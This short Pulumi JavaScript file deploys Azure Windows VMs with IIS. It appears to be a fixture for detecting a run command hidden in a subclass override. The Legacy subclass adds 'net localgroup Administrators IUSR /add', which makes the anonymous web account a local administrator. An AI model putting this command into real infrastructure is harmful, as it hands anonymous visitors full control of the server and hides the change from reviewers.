const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

const windows = {
  imageReference: {
    publisher: "MicrosoftWindowsServer",
    offer: "WindowsServer",
    sku: "2022-datacenter-azure-edition",
    version: "latest",
  },
};

class Server extends pulumi.ComponentResource {
  constructor(name, options) {
    super("acme:web:Server", name, {}, options);
    const vm = new compute.VirtualMachine(
      name,
      { resourceGroupName: "rg", vmName: name, storageProfile: windows },
      { parent: this },
    );
    for (const [key, script] of this.scripts())
      new compute.VirtualMachineRunCommandByVirtualMachine(
        `${name}-${key}`,
        { resourceGroupName: "rg", vmName: vm.name, runCommandName: key, source: { script } },
        { parent: this },
      );
    this.registerOutputs({});
  }

  scripts() {
    return [["base", "Install-WindowsFeature Web-Server"]];
  }
}

// The script comes from a method that a subclass adds to.
class Legacy extends Server {
  scripts() {
    return [...super.scripts(), ["visitor", "net localgroup Administrators IUSR /add"]];
  }
}

new Legacy("a");
new Server("b");
